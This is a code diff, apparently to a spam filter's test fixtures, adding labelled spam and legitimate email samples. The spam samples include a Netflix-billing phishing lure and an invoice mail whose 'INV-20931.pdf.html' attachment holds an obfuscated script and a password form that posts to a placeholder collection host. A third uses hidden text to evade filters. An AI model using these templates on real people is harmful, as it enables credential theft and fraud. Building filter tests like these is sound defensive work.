@@ -235,7 +235,26 @@ LIST = ("List-Id: <dev.lists.example.org>", "List-Post: <mailto:dev@lists.exampl
         "List-Unsubscribe: <mailto:dev-leave@lists.example.org>", "Precedence: list", "Errors-To: dev-bounces@lists.example.org")
 ARC = ("ARC-Seal: i=1; a=rsa-sha256; t=1749546660; cv=none; d=google.com; s=arc-20240605; b=Ab1c/2Dd==",
        "ARC-Authentication-Results: i=1; mx.google.com; dkim=pass header.i=@example.org; dmarc=pass header.from=example.org")
+SPAM += [
+    Mail("cloud-v6-brand", "Netflix Billing <support@netf1ix-billing.example>", "Your membership is on hold: update your payment details", None,
+         ("ec2-198-51-100-7.compute.example", "unknown", "2001:db8:1f:40::21"), html=page(
+             "<p>Dear customer,</p><p>We could not process your last payment. Your account will be suspended within 24 hours unless you verify "
+             "your billing information.</p><p><a href=\"https://netflix.billing-check.example.top/login/verify\">Update payment details</a></p>")),
+    Mail("invoice-html", "Accounts Payable <ap@supplier-docs.example>", "Overdue invoice INV-20931 - immediate payment required",
+         "Dear Sir/Madam,\n\nplease find attached the overdue invoice. Open the document and sign in with your e-mail and password to view it.\n",
+         ("vps31.host.example", "unknown", "2001:db8:77:9::14"), attach=[("text/html", "INV-20931.pdf.html", b"<script>document.write(unescape('%3Cform%3E'))</script><form action=\"https://collect.example/p.php\"><input type=password></form>")]),
+    Mail("hidden-v6", "Reward Center <winner@rewards-club.example.click>", "Congratulations! You have been selected", None, V6, html=page(
+        "<div style=\"display:none;font-size:0;color:#ffffff\">quarterly harvest lantern orchard meeting notes river</div><p>CONGRATULATIONS!!! You have "
+        "won a prize. Click here now to claim your reward before it expires. Limited time only!</p><a href=\"https://bit.ly/3claimX\">CLICK HERE</a>")),
+]
+
 HAM = [
+    Mail("ci-v6", "ci-bot <notifications@ci.example.org>", "[winnow] Build #5123 failed: main (3f9c1b7)", "The build of main failed.\n\nJob: test\nStep: make check\nDuration: 4 min 12 s\n\n"
+         "Full log: https://ci.example.org/winnow/builds/5123\n\nYou get this because you watch this project.\n", ("ci.example.org", "ci.example.org", "2001:db8:42::77"), dkim="ci.example.org",
+         extra=("Auto-Submitted: auto-generated", "List-ID: winnow <winnow.ci.example.org>", "List-Unsubscribe: <https://ci.example.org/u/1>")),
+    Mail("invoice-real", "Stromwerk Rechnung <rechnung@stromwerk.example>", "Ihre Rechnung Juni 2025", "Guten Tag Frau Keller,\n\nim Anhang finden Sie Ihre Rechnung für Juni 2025. Der Betrag von "
+         "84,20 EUR wird am 20. Juni abgebucht.\n\nIhr Stromwerk\nhttps://www.stromwerk.example/kundenportal\n", ("mail.stromwerk.example", "mail.stromwerk.example", "2001:db8:90::4"),
+         dkim="stromwerk.example", attach=[("application/pdf", "rechnung.pdf", PDF)]),
     Mail("reply-person", "Jonas Meier <jonas.meier@example.org>", "Re: Saturday", "Hi Maria,\n\nSaturday is fine. I'll bring the bread, you bring the cheese?\n\n"
          "On Mon, 9 Jun 2025 at 18:02, Maria Keller wrote:\n> Shall we meet on Saturday at ten?\n\nJonas\n", GMAIL, dkim="gmail.com", extra=REPLY),
     Mail("first-contact", "Karin Holm <karin.holm@outlook.com>", "Question about the flat", "Hello,\n\nI saw your advert for the flat in Elm Street. Is it still free from "
